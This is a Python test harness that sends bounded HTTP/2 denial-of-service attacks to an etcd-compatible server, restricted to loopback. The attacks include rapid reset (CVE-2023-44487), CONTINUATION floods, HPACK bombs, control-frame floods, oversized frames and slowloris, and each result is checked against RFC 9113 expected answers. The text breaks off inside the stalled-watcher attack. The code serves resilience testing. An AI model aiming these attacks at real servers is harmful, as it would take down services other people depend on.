"""Hostile-input attacks on an etcd client port, as raw bytes over loopback (issue 9, 6c/6d).

Each attack is a function `(host, port, *, bounds) -> AttackResult` that builds its own
HTTP/2 frames, HPACK blocks and HTTP/1.1 heads with `struct` (no h2 state machine, and
nothing from kubekv_server: the same bytes go to kubekv and to real etcd 3.5.1). Every
attack is bounded in time and in bytes sent, and closes its sockets before it returns.

`Probe` is a well-behaved client in its own process (so the attacker's GIL cannot delay
it) that issues a KV Range every ~100 ms and records each latency; `RssSampler` samples a
server's VmRSS/VmHWM; `measure` runs one attack under both and reads the server log.
`ATTACKS` lists every attack with its expected answer and memory bound, shared by
tests/rpc/test_hostile_input.py and bench/hostile_compare.py.

Only ever aimed at 127.0.0.1: the attacks refuse any other host.
"""

from __future__ import annotations

import collections
import contextlib
import dataclasses
import json
import os
import pathlib
import select
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from typing import Any

import hpack

ROOT = pathlib.Path(__file__).resolve().parent.parent

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types, flags, settings and error codes of RFC 9113.
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0x0, 0x1, 0x2, 0x3, 0x4
PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x5, 0x6, 0x7, 0x8, 0x9
END_STREAM = ACK = 0x1
END_HEADERS, PADDED, PRIORITY_FLAG = 0x4, 0x8, 0x20
S_HEADER_TABLE_SIZE, S_ENABLE_PUSH, S_MAX_CONCURRENT_STREAMS = 0x1, 0x2, 0x3
S_INITIAL_WINDOW_SIZE, S_MAX_FRAME_SIZE, S_MAX_HEADER_LIST_SIZE = 0x4, 0x5, 0x6

ERROR_NAMES = {
    0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM", 0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM", 0xC: "INADEQUATE_SECURITY", 0xD: "HTTP_1_1_REQUIRED",
}
CODES = {name: code for code, name in ERROR_NAMES.items()}
PROTOCOL_ERROR = CODES["PROTOCOL_ERROR"]
FLOW_CONTROL_ERROR = CODES["FLOW_CONTROL_ERROR"]
FRAME_SIZE_ERROR = CODES["FRAME_SIZE_ERROR"]
COMPRESSION_ERROR = CODES["COMPRESSION_ERROR"]
ENHANCE_YOUR_CALM = CODES["ENHANCE_YOUR_CALM"]
STREAM_CLOSED = CODES["STREAM_CLOSED"]

DEFAULT_MAX_FRAME = 16384
RANGE_PATH = b"/etcdserverpb.KV/Range"
WATCH_PATH = b"/etcdserverpb.Watch/Watch"
# Our own receive buffer on sockets that never read: small, so a server's replies back
# up into its own buffers within a few KB instead of the kernel's megabytes.
NON_READING_RCVBUF = 4096
# How long an attacker waits for the server's answer once it has sent its bytes.
ANSWER_WAIT = 2.0
# How long a send may make no progress before we call the server "not reading".
SEND_STALL = 1.0


def _check_host(host: str) -> None:
    if not host.startswith("127.") and host not in ("localhost", "::1"):
        raise ValueError(f"hostile traffic goes to loopback only, not {host!r}")


# ------------------------------------------------------------------ wire building

def frame(ftype: int, flags: int, sid: int, payload: bytes = b"",
          length: int | None = None) -> bytes:
    """One HTTP/2 frame; `length` overrides the header's length field (for lying frames)."""
    n = len(payload) if length is None else length
    return struct.pack(">I", n)[1:] + bytes((ftype, flags)) + struct.pack(">I", sid) + payload


def settings(pairs: Iterable[tuple[int, int]] = (), sid: int = 0) -> bytes:
    return frame(SETTINGS, 0, sid, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def window_update(sid: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", increment))


def rst_stream(sid: int, code: int = 0x8) -> bytes:
    return frame(RST_STREAM, 0, sid, struct.pack(">I", code))


def ping(data: bytes = b"hostile!") -> bytes:
    return frame(PING, 0, 0, data)


def hpack_int(value: int, prefix_bits: int, flags: int = 0) -> bytes:
    """An HPACK integer (RFC 7541 §5.1) with `flags` in the first byte's high bits."""
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes((flags | value,))
    out = bytearray((flags | top,))
    value -= top
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name: bytes, value: bytes, indexing: bool = False) -> bytes:
    """A literal field with a literal name, without or with incremental indexing."""
    return (b"\x40" if indexing else b"\x00") + hpack_int(len(name), 7) + name + \
        hpack_int(len(value), 7) + value


def hpack_indexed(index: int) -> bytes:
    return hpack_int(index, 7, 0x80)


def request_block(path: bytes = RANGE_PATH, authority: bytes = b"127.0.0.1",
                  extra: Iterable[tuple[bytes, bytes]] = (),
                  fields: list[tuple[bytes, bytes]] | None = None) -> bytes:
    """A gRPC request's header block that never touches the dynamic table (the same
    bytes on every stream). `fields` replaces the whole field list when given."""
    if fields is None:
        fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
                  (b":authority", authority), (b"content-type", b"application/grpc"),
                  (b"te", b"trailers"), *extra]
    out = bytearray()
    for name, value in fields:
        if (name, value) == (b":method", b"POST"):
            out += hpack_indexed(3)
        elif (name, value) == (b":scheme", b"http"):
            out += hpack_indexed(6)
        else:
            out += hpack_literal(name, value)
    return bytes(out)


def grpc_message(payload: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def range_request(key: bytes = b"hostile") -> bytes:
    """A serialized etcdserverpb.RangeRequest{key}: field 1, length-delimited."""
    return b"\x0a" + hpack_int(len(key), 7) + key  # a varint below 128 is one byte


def headers_frames(sid: int, block: bytes, end_stream: bool, max_frame: int = DEFAULT_MAX_FRAME
                   ) -> bytes:
    """A header block as HEADERS + CONTINUATION frames no larger than `max_frame`."""
    parts = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = []
    for i, part in enumerate(parts):
        last = i == len(parts) - 1
        flags = (END_HEADERS if last else 0)
        if i == 0:
            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), sid, part))
        else:
            out.append(frame(CONTINUATION, flags, sid, part))
    return b"".join(out)


def unary_call(sid: int, path: bytes = RANGE_PATH, message: bytes | None = None,
               authority: bytes = b"127.0.0.1") -> bytes:
    """HEADERS + DATA(END_STREAM) of one complete unary gRPC call."""
    body = grpc_message(range_request() if message is None else message)
    return frame(HEADERS, END_HEADERS, sid, request_block(path, authority)) + \
        frame(DATA, END_STREAM, sid, body)


# ------------------------------------------------------------------ results

@dataclasses.dataclass
class AttackResult:
    """What one attack sent and what the attacker saw come back."""

    name: str
    sent: int = 0
    elapsed: float = 0.0
    connections: int = 0
    goaways: collections.Counter = dataclasses.field(default_factory=collections.Counter)
    rsts: collections.Counter = dataclasses.field(default_factory=collections.Counter)
    http_status: collections.Counter = dataclasses.field(default_factory=collections.Counter)
    grpc_status: collections.Counter = dataclasses.field(default_factory=collections.Counter)
    closed: int = 0  # connections the server closed (EOF or reset)
    blocked: int = 0  # connections on which the server stopped reading our bytes
    unanswered: int = 0  # connections that saw no answer at all within the wait
    longest_grpc_message: int = 0
    notes: list[str] = dataclasses.field(default_factory=list)
    per_conn: list[AttackResult] = dataclasses.field(default_factory=list)

    def answer(self) -> str:
        """A one-line summary: GOAWAY codes, RST codes, HTTP statuses, close, blocked."""
        parts = [f"GOAWAY({ERROR_NAMES.get(c, hex(c))})x{n}" for c, n in self.goaways.items()]
        parts += [f"RST({ERROR_NAMES.get(c, hex(c))})x{n}" for c, n in self.rsts.items()]
        parts += [f"HTTP {s}x{n}" for s, n in self.http_status.items()]
        parts += [f"grpc-status {s}x{n}" for s, n in self.grpc_status.items()]
        if self.longest_grpc_message > MAX_ECHOED_MESSAGE:
            parts.append(f"echoes {self.longest_grpc_message}B")
        if self.closed:
            parts.append(f"close x{self.closed}")
        if self.blocked:
            parts.append(f"blocked x{self.blocked}")
        return ", ".join(parts) or "nothing"

    def absorb(self, conn: RawH2) -> None:
        """Add one connection's observations (kept per connection too, for Expect)."""
        one = AttackResult(self.name, sent=conn.sent, connections=1,
                           goaways=collections.Counter(code for _, code, _ in conn.goaways),
                           rsts=collections.Counter(conn.rsts.values()),
                           http_status=collections.Counter(conn.statuses),
                           grpc_status=collections.Counter(conn.grpc_statuses),
                           closed=conn.closed_by_server, blocked=conn.blocked,
                           longest_grpc_message=conn.longest_grpc_message)
        one.unanswered = int(not (conn.goaways or conn.rsts or conn.statuses
                                  or conn.grpc_statuses or conn.closed_by_server
                                  or conn.blocked))
        self.per_conn.append(one)
        self.connections += 1
        self.sent += one.sent
        for k in ("goaways", "rsts", "http_status", "grpc_status"):
            getattr(self, k).update(getattr(one, k))
        self.longest_grpc_message = max(self.longest_grpc_message, one.longest_grpc_message)
        self.closed += one.closed
        self.blocked += one.blocked
        self.unanswered += one.unanswered

    def to_json(self) -> dict:
        d = dataclasses.asdict(self)
        d.pop("per_conn")
        for k in ("goaways", "rsts", "http_status", "grpc_status"):
            d[k] = {str(ERROR_NAMES.get(c, c) if k in ("goaways", "rsts") else c): n
                    for c, n in getattr(self, k).items()}
        d["answer"] = self.answer()
        return d


@dataclasses.dataclass(frozen=True)
class Expect:
    """The answers the protocol allows for an attack: any one of them passes.

    `close` accepts the server closing the connection without a GOAWAY we saw (RFC 9113
    §5.4.1 says SHOULD send GOAWAY first); `blocked` accepts a server that stops reading
    (grpc-go's answer to control-frame floods)."""

    goaway: frozenset = frozenset()
    rst: frozenset = frozenset()
    http: frozenset = frozenset()
    grpc: frozenset = frozenset()
    close: bool = True
    blocked: bool = False
    every_connection: bool = True  # each connection must show an allowed answer

    def describe(self) -> str:
        parts = [f"GOAWAY({'/'.join(ERROR_NAMES[c] for c in sorted(self.goaway))})"
                 if self.goaway else "",
                 f"RST({'/'.join(ERROR_NAMES[c] for c in sorted(self.rst))})" if self.rst else "",
                 f"HTTP {'/'.join(map(str, sorted(self.http)))}" if self.http else "",
                 f"grpc-status {'/'.join(map(str, sorted(self.grpc)))}" if self.grpc else "",
                 "close" if self.close else "", "blocked" if self.blocked else ""]
        return " | ".join(p for p in parts if p)

    def met(self, r: AttackResult) -> bool:
        """Whether the attacker got an allowed answer, on every connection (or on one,
        unless `every_connection`), and never a GOAWAY with another code."""
        conns = r.per_conn or [r]
        verdicts = [self._met_one(c) for c in conns]
        return all(verdicts) if self.every_connection else any(verdicts)

    def _met_one(self, r: AttackResult) -> bool:
        if any(c not in self.goaway for c in r.goaways):
            return False
        return bool(any(r.goaways[c] for c in self.goaway) or any(r.rsts[c] for c in self.rst)
                    or any(r.http_status[s] for s in self.http)
                    or any(r.grpc_status[s] for s in self.grpc)
                    or (self.close and r.closed) or (self.blocked and r.blocked))


def conn_error(*codes: int) -> Expect:
    """A connection error: GOAWAY with one of `codes`, or a close."""
    return Expect(goaway=frozenset(codes))


def stream_error(*codes: int) -> Expect:
    """A stream error: RST_STREAM or GOAWAY with one of `codes` (RFC 9113 §5.4.2 lets a
    stream error be treated as a connection error), an HTTP 400 before the reset
    (§8.1.1), or a close."""
    return Expect(goaway=frozenset(codes), rst=frozenset(codes), http=frozenset({400}))


# ------------------------------------------------------------------ raw HTTP/2 client

class RawH2:
    """A raw client connection: we write whatever bytes we like; a reader thread (unless
    `read=False`) parses the server's frames and records GOAWAY, RST_STREAM, :status,
    grpc-status and closes. Server SETTINGS are ACKed, as any client would."""

    def __init__(self, host: str, port: int, *, read: bool = True, decode: bool = True,
                 rcvbuf: int | None = None) -> None:
        _check_host(host)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf is not None:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(5.0)
        self.sock.connect((host, port))
        self.sock.settimeout(0.2)
        self.authority = f"{host}:{port}".encode()
        self.sent = 0
        self.blocked = 0
        self.closed_by_server = 0
        self.goaways: list[tuple[int, int, bytes]] = []
        self.rsts: dict[int, int] = {}
        self.statuses: collections.Counter = collections.Counter()
        self.grpc_statuses: collections.Counter = collections.Counter()
        self.longest_grpc_message = 0
        self.server_settings: dict[int, int] = {}
        self.frames_in: collections.Counter = collections.Counter()
        self.bytes_in = 0
        self._decode = decode
        self._decoder = hpack.Decoder(max_header_list_size=64 << 20)
        self._decoder.max_allowed_table_size = 1 << 16
        self._buf = bytearray()
        self._cond = threading.Condition()
        self._eof = False
        self._stop = False
        self._send_lock = threading.Lock()
        self._reader: threading.Thread | None = None
        if read:
            self._reader = threading.Thread(target=self._read_loop, daemon=True)
            self._reader.start()

    # -- sending

    def send(self, data: bytes, deadline: float | None = None) -> bool:
        """Send all of `data` unless the server closes, stops reading for SEND_STALL, or
        `deadline` passes; returns whether all of it left."""
        view = memoryview(data)
        stalled_since = None
        with self._send_lock:
            while view:
                now = time.monotonic()
                if deadline is not None and now >= deadline:
                    return False
                try:
                    n = self.sock.send(view[:1 << 20])
                except (TimeoutError, BlockingIOError):
                    stalled_since = stalled_since or now
                    if now - stalled_since >= SEND_STALL:
                        self.blocked = 1
                        return False
                    continue
                except OSError:
                    self._mark_closed()
                    return False
                stalled_since = None
                self.sent += n
                view = view[n:]
        return True

    def handshake(self, pairs: Iterable[tuple[int, int]] = ((S_INITIAL_WINDOW_SIZE, 1 << 30),),
                  conn_window: int = (1 << 30)) -> bool:
        """Preface, our SETTINGS and a large connection window (a greedy client); then
        wait for the server's SETTINGS and ACK them. The ACK is sent here, never from the
        reader thread, so that it cannot land between a HEADERS frame and its
        CONTINUATION frames (a connection error the attack did not mean to commit)."""
        data = PREFACE + settings(pairs)
        if conn_window:
            data += window_update(0, conn_window)
        if not self.send(data):
            return False
        self.await_settings()
        return self.send(frame(SETTINGS, ACK, 0)) if self.frames_in[SETTINGS] else False

    def await_settings(self, timeout: float = ANSWER_WAIT) -> None:
        """Wait (reading ourselves when there is no reader thread) for the server's first
        SETTINGS frame."""
        if self._reader is not None:
            self.wait(lambda c: bool(c.frames_in[SETTINGS]), timeout)
            return
        deadline = time.monotonic() + timeout
        while not self.frames_in[SETTINGS] and not self._eof and time.monotonic() < deadline:
            try:
                chunk = self.sock.recv(4096)
            except (TimeoutError, BlockingIOError):
                continue
            except OSError:
                self._mark_closed()
                return
            if not chunk:
                self._mark_closed()
                return
            self._feed(chunk)

    # -- reading

    def _mark_closed(self) -> None:
        with self._cond:
            if not self._eof:
                self._eof = True
                self.closed_by_server = 1
            self._cond.notify_all()

    def _read_loop(self) -> None:
        while not self._stop:
            try:
                chunk = self.sock.recv(1 << 18)
            except (TimeoutError, BlockingIOError):
                continue
            except OSError:
                if not self._stop:
                    self._mark_closed()
                return
            if not chunk:
                self._mark_closed()
                return
            self._feed(chunk)

    def drain(self, timeout: float, max_bytes: int = 64 << 20) -> None:
        """For `read=False` connections: read what the server sent, up to a bound."""
        deadline = time.monotonic() + timeout
        got = 0
        while time.monotonic() < deadline and got < max_bytes and not self._eof:
            try:
                chunk = self.sock.recv(1 << 18)
            except (TimeoutError, BlockingIOError):
                continue
            except OSError:
                self._mark_closed()
                return
            if not chunk:
                self._mark_closed()
                return
            got += len(chunk)
            self._feed(chunk)

    def _feed(self, chunk: bytes) -> None:
        self.bytes_in += len(chunk)
        buf = self._buf
        buf += chunk
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            payload = bytes(buf[pos + 9:pos + 9 + length])
            pos += 9 + length
            self.frames_in[ftype] += 1
            if ftype == GOAWAY and len(payload) >= 8:
                last, code = struct.unpack(">II", payload[:8])
                self.goaways.append((last & 0x7FFFFFFF, code, payload[8:200]))
            elif ftype == RST_STREAM and len(payload) == 4:
                self.rsts[sid] = struct.unpack(">I", payload)[0]
            elif ftype == SETTINGS and not flags & ACK:
                for i in range(0, len(payload) - 5, 6):
                    k, v = struct.unpack(">HI", payload[i:i + 6])
                    self.server_settings[k] = v
            elif ftype in (HEADERS, CONTINUATION) and self._decode:
                self._on_headers(ftype, flags, payload)
        del buf[:pos]
        with self._cond:
            self._cond.notify_all()

    _block = b""

    def _on_headers(self, ftype: int, flags: int, payload: bytes) -> None:
        if ftype == HEADERS:
            if flags & PADDED:
                payload = payload[1:len(payload) - payload[0]]
            if flags & PRIORITY_FLAG:
                payload = payload[5:]
            self._block = payload
        else:
            self._block += payload
        if not flags & END_HEADERS:
            return
        try:
            fields = self._decoder.decode(self._block, raw=True)
        except Exception as exc:  # a server's bad HPACK is a finding, not our crash
            self.statuses[f"hpack-error:{type(exc).__name__}"] += 1
            return
        for name, value in fields:
            if name == b":status":
                self.statuses[int(value)] += 1
            elif name == b"grpc-status":
                self.grpc_statuses[int(value)] += 1
            elif name == b"grpc-message":
                self.longest_grpc_message = max(self.longest_grpc_message, len(value))

    def wait(self, pred: Callable[[RawH2], bool], timeout: float = ANSWER_WAIT) -> bool:
        """Wait until pred(self) or the connection closes or `timeout` passes."""
        deadline = time.monotonic() + timeout
        with self._cond:
            while not pred(self) and not self._eof:
                left = deadline - time.monotonic()
                if left <= 0:
                    return False
                self._cond.wait(left)
        return pred(self)

    def wait_answer(self, timeout: float = ANSWER_WAIT) -> bool:
        """Wait for a GOAWAY, an RST_STREAM, a response status, or the close."""
        return self.wait(lambda c: bool(c.goaways or c.rsts or c.statuses or c.grpc_statuses),
                         timeout)

    def max_frame(self) -> int:
        """The server's SETTINGS_MAX_FRAME_SIZE (the RFC default if it sent none)."""
        self.await_settings()
        return self.server_settings.get(S_MAX_FRAME_SIZE, DEFAULT_MAX_FRAME)

    def close(self) -> None:
        self._stop = True
        with contextlib.suppress(OSError):
            self.sock.close()
        if self._reader is not None:
            self._reader.join(2.0)


# ------------------------------------------------------------------ attacks: volume

def rapid_reset(host: str, port: int, *, duration: float = 4.0, streams: int = 100_000,
                batch: int = 500) -> AttackResult:
    """CVE-2023-44487: HEADERS + DATA of a real unary call, then RST_STREAM, for up to
    `streams` streams on one connection as fast as the socket takes them."""
    r = AttackResult("rapid_reset")
    t0 = time.monotonic()
    deadline = t0 + duration
    c = RawH2(host, port, decode=False)
    try:
        c.handshake()
        block = request_block(RANGE_PATH, c.authority)
        body = grpc_message(range_request())
        sid = 1
        done = 0
        while done < streams and time.monotonic() < deadline:
            parts = []
            for _ in range(min(batch, streams - done)):
                parts.append(frame(HEADERS, END_HEADERS, sid, block))
                parts.append(frame(DATA, END_STREAM, sid, body))
                parts.append(rst_stream(sid))
                sid += 2
            done += len(parts) // 3
            if not c.send(b"".join(parts), deadline):
                break
        r.notes.append(f"streams={done}")
        t_sent = time.monotonic()
        c.send(ping(b"rr-done!"), t_sent + 1.0)
        # the PING's ACK comes once the server has worked through the whole backlog
        if c.wait(lambda x: x.frames_in[PING] > 0, ANSWER_WAIT):
            r.notes.append(f"backlog_s={time.monotonic() - t_sent:.2f}")
    finally:
        c.close()
    r.absorb(c)
    r.elapsed = time.monotonic() - t0
    return r


def continuation_flood(host: str, port: int, *, duration: float = 3.0,
                       max_bytes: int = 256 << 20) -> AttackResult:
    """HEADERS without END_HEADERS, then CONTINUATION frames of valid literal fields
    (4 KB each) without end, until the server answers, stops reading, or the bounds."""
    r = AttackResult("continuation_flood")
    t0 = time.monotonic()
    deadline = t0 + duration
    c = RawH2(host, port)
    try:
        c.handshake()
        c.send(frame(HEADERS, 0, 1, request_block(RANGE_PATH, c.authority)))
        field = hpack_literal(b"x-flood", b"a" * 4000)
        payload = field * 4  # 16 KB: within the default max frame size
        chunk = frame(CONTINUATION, 0, 1, payload) * 32
        while c.sent < max_bytes and time.monotonic() < deadline and not c.goaways:
            if not c.send(chunk, deadline):
                break
        c.wait_answer(ANSWER_WAIT)
    finally:
        c.close()
    r.absorb(c)
    r.elapsed = time.monotonic() - t0
    return r


def _bomb(name: str, host: str, port: int, table_field: bytes, ref: bytes, size: int,
          duration: float) -> AttackResult:
    """Optionally a complete call whose header block adds `table_field` to the dynamic
    table (stream 1), then on stream 3 a header block of nothing but `size` copies of the
    one-byte indexed reference `ref`, as HEADERS + CONTINUATION frames."""
    r = AttackResult(name)
    t0 = time.monotonic()
    deadline = t0 + duration
    c = RawH2(host, port)
    try:
        c.handshake()
        max_frame = c.max_frame()
        if table_field:
            block = request_block(RANGE_PATH, c.authority) + table_field
            c.send(frame(HEADERS, END_HEADERS, 1, block) +
                   frame(DATA, END_STREAM, 1, grpc_message(range_request())))
            c.wait(lambda x: bool(x.grpc_statuses or x.rsts or x.goaways), ANSWER_WAIT)
            before = sum(c.grpc_statuses.values()) + len(c.rsts) + len(c.goaways)
            r.notes.append(f"table_call_answered={before > 0}")
        data = headers_frames(3, ref * size, end_stream=False, max_frame=max_frame)
        c.send(data + frame(DATA, END_STREAM, 3, grpc_message(range_request())), deadline)
        c.wait(lambda x: bool(x.goaways or 3 in x.rsts or
                              sum(x.grpc_statuses.values()) + sum(x.statuses.values()) > 2),
               ANSWER_WAIT)
    finally:
        c.close()
    r.absorb(c)
    r.elapsed = time.monotonic() - t0
    return r


def hpack_bomb_dynamic(host: str, port: int, *, refs: int = 2_000_000,
                       duration: float = 4.0) -> AttackResult:
    """One ~4 KB field inserted into the dynamic table by a first call, then a block of
    `refs` one-byte indexed references to it (index 62): ~2 MB that decode to ~8 GB."""
    big = hpack_literal(b"x-bomb", b"b" * 3900, indexing=True)
    return _bomb("hpack_bomb_dynamic", host, port, big, hpack_indexed(62), refs, duration)


def hpack_bomb_static(host: str, port: int, *, size: int = 8 << 20,
                      duration: float = 4.0) -> AttackResult:
    """A header block of 8 MB of one-byte static-table references (index 2,
    ':method: GET'): ~340 MB of header list by RFC 9113's accounting."""
    return _bomb("hpack_bomb_static", host, port, b"", hpack_indexed(2), size, duration)


def _control_flood(name: str, host: str, port: int, unit: bytes, duration: float,
                   max_bytes: int) -> AttackResult:
    r = AttackResult(name)
    t0 = time.monotonic()
    deadline = t0 + duration
    c = RawH2(host, port, read=False, rcvbuf=NON_READING_RCVBUF)
    try:
        c.handshake()
        chunk = unit * max(1, (256 << 10) // len(unit))
        while c.sent < max_bytes and time.monotonic() < deadline:
            if not c.send(chunk, deadline):
                break
        r.notes.append(f"frames={c.sent // len(unit)}")
        c.drain(ANSWER_WAIT)
    finally:
        c.close()
    r.absorb(c)
    r.elapsed = time.monotonic() - t0
    return r


def ping_flood(host: str, port: int, *, duration: float = 3.0,
               max_bytes: int = 64 << 20) -> AttackResult:
    """PING frames as fast as possible from a client that never reads the ACKs."""
    return _control_flood("ping_flood", host, port, ping(), duration, max_bytes)


def settings_flood(host: str, port: int, *, duration: float = 3.0,
                   max_bytes: int = 64 << 20) -> AttackResult:
    """SETTINGS frames (one harmless setting each) from a client that never reads."""
    return _control_flood("settings_flood", host, port,
                          settings([(S_MAX_HEADER_LIST_SIZE, 1 << 20)]), duration, max_bytes)


def oversized_frame(host: str, port: int, *, kind: str = "data", duration: float = 4.0
                    ) -> AttackResult:
    """A 16 MB (2^24-1) DATA frame on an open stream (kind="data") or HEADERS frame
    (kind="headers"): far above the server's advertised SETTINGS_MAX_FRAME_SIZE."""
    r = AttackResult(f"oversized_{kind}_16mb")
    t0 = time.monotonic()
    deadline = t0 + duration
    c = RawH2(host, port)
    try:
        c.handshake()
        n = (1 << 24) - 1
        if kind == "data":
            c.send(frame(HEADERS, END_HEADERS, 1, request_block(RANGE_PATH, c.authority)))
            head = frame(DATA, END_STREAM, 1, length=n)
            c.send(head + grpc_message(range_request()), deadline)
            filler = n - len(grpc_message(range_request()))
        else:
            block = request_block(RANGE_PATH, c.authority)
            c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, length=n) + block, deadline)
            filler = n - len(block)
        zeros = bytes(1 << 20)
        while filler > 0 and not c.closed_by_server and time.monotonic() < deadline:
            piece = zeros[:min(filler, len(zeros))]
            if not c.send(piece, deadline):
                break
            filler -= len(piece)
        c.wait_answer(ANSWER_WAIT)
    finally:
        c.close()
    r.absorb(c)
    r.elapsed = time.monotonic() - t0
    return r


def unknown_method_long_path(host: str, port: int, *, path_bytes: int = 100_000,
                             calls: int = 200, duration: float = 4.0) -> AttackResult:
    """Calls to an unknown method whose :path is ~100 KB, `calls` times on one connection:
    a server that echoes the path in its error message grows with each."""
    r = AttackResult("unknown_method_100kb_path")
    t0 = time.monotonic()
    deadline = t0 + duration
    c = RawH2(host, port)
    try:
        c.handshake()
        path = b"/etcdserverpb.KV/" + b"X" * path_bytes
        max_frame = c.max_frame()
        body = grpc_message(range_request())
        sid = 1
        for _ in range(calls):
            if time.monotonic() >= deadline or c.closed_by_server or c.goaways:
                break
            data = headers_frames(sid, request_block(path, c.authority), False, max_frame)
            if not c.send(data + frame(DATA, END_STREAM, sid, body), deadline):
                break
            sid += 2
        r.notes.append(f"calls={sid // 2}")
        c.wait(lambda x: sum(x.grpc_statuses.values()) + len(x.rsts) >= sid // 2, ANSWER_WAIT)
    finally:
        c.close()
    r.absorb(c)
    r.elapsed = time.monotonic() - t0
    return r


def partial_bodies(host: str, port: int, *, streams: int = 400, connections: int = 4,
                   max_bytes: int = 160 << 20, hold: float = 2.0, duration: float = 5.0
                   ) -> AttackResult:
    """Many streams whose gRPC length prefix announces 1 MB, never END_STREAM, each sent
    as much of it as the server's advertised stream window allows (all but 16 KB of it,
    at most 1 MB - 1), up to `max_bytes` in all; held open `hold` seconds, then closed."""
    r = AttackResult("partial_bodies")
    t0 = time.monotonic()
    deadline = t0 + duration
    conns = [RawH2(host, port) for _ in range(connections)]
    try:
        for c in conns:
            c.handshake()
        window = conns[0].server_settings.get(S_INITIAL_WINDOW_SIZE, 65535)
        per_stream = max(1024, min(window - DEFAULT_MAX_FRAME, (1 << 20) - 1))
        r.notes.append(f"per_stream={per_stream}")
        head = b"\x00" + struct.pack(">I", 1 << 20)
        body = head + b"p" * (per_stream - len(head))
        for i in range(streams):
            if sum(c.sent for c in conns) + per_stream > max_bytes:
                break
            c = conns[i % connections]
            sid = 1 + 2 * (i // connections)
            data = [frame(HEADERS, END_HEADERS, sid, request_block(RANGE_PATH, c.authority))]
            data += [frame(DATA, 0, sid, body[j:j + DEFAULT_MAX_FRAME])
                     for j in range(0, len(body), DEFAULT_MAX_FRAME)]
            if not c.send(b"".join(data), deadline):
                break
        r.notes.append(f"bytes={sum(c.sent for c in conns)}")
        hold_until = min(deadline, time.monotonic() + hold)
        conns[0].wait(lambda x: False, max(0.0, hold_until - time.monotonic()))
    finally:
        for c in conns:
            c.close()
    for c in conns:
        r.absorb(c)
    r.elapsed = time.monotonic() - t0
    return r


SLOW_PREFACE_START = 10


def slowloris(host: str, port: int, *, connections: int = 200, duration: float = 4.0,
              trickle: float = 0.5) -> AttackResult:
    """Connections that send part of the HTTP/2 preface or part of an HTTP/1.1 head, then
    one more byte every `trickle` seconds, never completing."""
    _check_host(host)
    r = AttackResult("slowloris")
    t0 = time.monotonic()
    deadline = t0 + duration
    socks: list[socket.socket] = []
    alive: list[bool] = []
    step = 0
    try:
        for i in range(connections):
            s = socket.create_connection((host, port), timeout=2.0)
            s.setblocking(False)
            first = PREFACE[:SLOW_PREFACE_START] if i % 2 == 0 else \
                b"POST /v3/kv/range HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
            with contextlib.suppress(OSError):
                r.sent += s.send(first)
            socks.append(s)
            alive.append(True)
        while time.monotonic() < deadline:
            for i, s in enumerate(socks):
                if not alive[i]:
                    continue
                try:
                    if s.recv(4096) == b"":
                        alive[i] = False
                        r.closed += 1
                        continue
                except BlockingIOError:
                    pass
                except OSError:
                    alive[i] = False
                    r.closed += 1
                    continue
                # one more byte: of the head, or of the preface (never its last byte)
                more = b"a" if i % 2 else PREFACE[SLOW_PREFACE_START + step:][:1]
                if more and SLOW_PREFACE_START + step < len(PREFACE) - 1 or i % 2:
                    with contextlib.suppress(OSError):
                        r.sent += s.send(more)
            step += 1
            select.select([], [], [], min(trickle, max(0.0, deadline - time.monotonic())))
    finally:
        for s in socks:
            s.close()
    r.connections = len(socks)
    r.notes.append(f"still_open={sum(alive)}")
    r.elapsed = time.monotonic() - t0
    return r


def stalled_watcher(host: str, port: int, *, total_bytes: int = 20 << 20,
                    value_bytes: int = 100 << 10, duration: float = 10.0) -> AttackResult:
    """A watch stream whose client never reads, while another client (grpcio) writes
    `total_bytes` of events under the watched prefix."""
    import grpc

    from etcdproto.etcdserverpb import rpc_pb2 as pb
    from etcdproto.etcdserverpb import rpc_pb2_grpc

    _check_host(host)
    r = AttackResult("stalled_watcher")
    t0 = time.monotonic()
    deadline = t0 + duration
    channel = grpc.insecure_channel(f"{host}:{port}")
    kv = rpc_pb2_grpc.KVStub(channel)
    c = RawH2(host, port, read=False, rcvbuf=NON_READING_RCVBUF)
    try:
        rev = kv.Range(pb.RangeRequest(key=b"hostile/watch/"), timeout=5).header.revision
        c.handshake()
        create = pb.WatchRequest(create_request=pb.WatchCreateRequest(
            key=b"hostile/watch/", range_end=b"hostile/watch0", start_revision=rev + 1))
        c.send(frame(HEADERS, END_HEADERS, 1, request_block(WATCH_PATH, c.authority)) +
               frame(DATA, 0, 1, grpc_message(create.SerializeToString())))
        value = b"w" * value_bytes
        written = 0
        i = 0
        while written < total_bytes and time.monotonic() < deadline:
            kv.Put(pb.PutRequest(key=b"hostile/watch/%d" % (i % 64), value=value), timeout=5)
            written += value_bytes
            i += 1
        r.notes.append(f"written={written}")
